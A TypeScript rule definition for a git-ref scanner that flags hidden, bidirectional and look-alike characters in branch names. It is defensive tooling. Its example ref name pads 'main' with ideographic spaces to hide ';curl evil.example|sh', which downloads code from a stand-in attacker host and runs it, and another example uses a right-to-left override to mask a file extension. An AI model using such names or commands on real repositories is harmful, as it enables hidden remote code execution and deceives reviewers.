// CG-REF-007: non-ASCII, invisible, bidi and tag characters in a ref name.
import type {RuleMeta} from '../../report/rule-meta.js'
import {escapeVisible} from '../text/chars.js'
import type {Hit, NameRule} from '../types.js'
import {classifyNameChars} from './name-chars.js'

export const meta: RuleMeta = {
  id: 'CG-REF-007',
  title: 'Hidden or non-ASCII characters in a ref name',
  severity: 'high',
  description:
    'Bidi controls and Unicode tag characters (critical), zero-width and other invisible characters, U+3000 ideographic space and other blank look-alikes of a space, control characters and Latin/Cyrillic/Greek look-alike letters (high) make a name display as something it is not, or pad a payload out of view; git accepts them all. Other non-ASCII letters are low: legitimate, but worth a look in a ref.',
  remediation: 'delete or rename the ref; print names with escaping (git for-each-ref | cat -A) before trusting them',
  example: {bad: 'main<U+3000 × 30>;curl evil.example|sh', good: 'feature/add-login'},
  examples: {
    flagged: [
      {text: `main${'\\u{3000}'.repeat(30)};curl evil.example|sh`, escaped: true},
      {text: 'fix\\u{202E}hs.txt', escaped: true},
    ],
    clean: ['feature/add-login', 'release/2024-q1'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const report = classifyNameChars(name, 'low')
    if (!report) return []
    return [{severity: report.severity, message: `${report.kinds.join('; ')} in the name (shown escaped: ${escapeVisible(name, {asciiOnly: true, max: 120})})`}]
  },
}
